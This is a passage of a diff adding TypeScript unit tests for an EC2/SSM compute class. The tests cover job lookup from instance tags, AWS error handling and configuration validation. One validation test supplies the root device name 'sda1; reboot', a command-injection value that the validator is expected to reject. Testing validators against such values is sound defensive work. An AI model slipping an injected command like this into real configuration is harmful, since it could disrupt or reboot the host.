+
+    assert.equal(await new Ec2SsmCompute(PROPS).jobOfInstance('i-1'), 'j-abc');
+    assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand)[0].args[0].input, { InstanceIds: ['i-1'], NextToken: undefined });
+  });
+
+  test('jobOfInstance is undefined for instances Flare did not launch or EC2 no longer knows', async () => {
+    const compute = new Ec2SsmCompute(PROPS);
+    ec2Mock.on(DescribeInstancesCommand).resolvesOnce({ Reservations: [{ Instances: [{ InstanceId: 'i-1', Tags: [{ Key: 'flare:job', Value: 'j-abc' }] }] }] });
+    assert.equal(await compute.jobOfInstance('i-1'), undefined);
+    ec2Mock.on(DescribeInstancesCommand).resolvesOnce({ Reservations: [{ Instances: [{ InstanceId: 'i-1', Tags: [{ Key: 'managed-by', Value: 'flare' }] }] }] });
+    assert.equal(await compute.jobOfInstance('i-1'), undefined);
+    ec2Mock.on(DescribeInstancesCommand).rejectsOnce(ec2Error('InvalidInstanceID.NotFound'));
+    assert.equal(await compute.jobOfInstance('i-1'), undefined);
+  });
+
+  test('jobOfInstance throws other errors', async () => {
+    const denied = ec2Error('UnauthorizedOperation');
+    ec2Mock.on(DescribeInstancesCommand).rejects(denied);
+    await assert.rejects(new Ec2SsmCompute(PROPS).jobOfInstance('i-1'), (error: unknown) => error === denied);
+  });
+});
+
 describe('Ec2SsmCompute configuration', () => {
   test('fails fast naming a pool without a container memory limit', () => {
     assert.throws(
@@ -375,5 +688,20 @@ describe('Ec2SsmCompute configuration', () => {
   test('fails fast without subnets or instance types', () => {
     assert.throws(() => new Ec2SsmCompute({ ...PROPS, subnetIds: [] }), ValidationError);
     assert.throws(() => new Ec2SsmCompute({ ...PROPS, pools: { a10g: { instanceTypes: [], memory: '14g' } } }), ValidationError);
+  });
+
+  test('fails fast on a bad agent timeout, root device or rendezvous port', () => {
+    const fieldOf = (props: Partial<Ec2SsmComputeProps>) => {
+      try {
+        new Ec2SsmCompute({ ...PROPS, ...props });
+      } catch (error) {
+        return error instanceof ValidationError ? error.details.map((d) => d.field) : [];
+      }
+      return [];
+    };
+    assert.deepEqual(fieldOf({ agentTimeoutSeconds: 0 }), ['agentTimeoutSeconds']);
+    assert.deepEqual(fieldOf({ rootDeviceName: 'sda1; reboot' }), ['rootDeviceName']);
+    assert.deepEqual(fieldOf({ masterPort: 70000 }), ['masterPort']);
+    assert.deepEqual(fieldOf({ agentTimeoutSeconds: 1, rootDeviceName: '/dev/xvda', masterPort: 1 }), []);
   });
 });
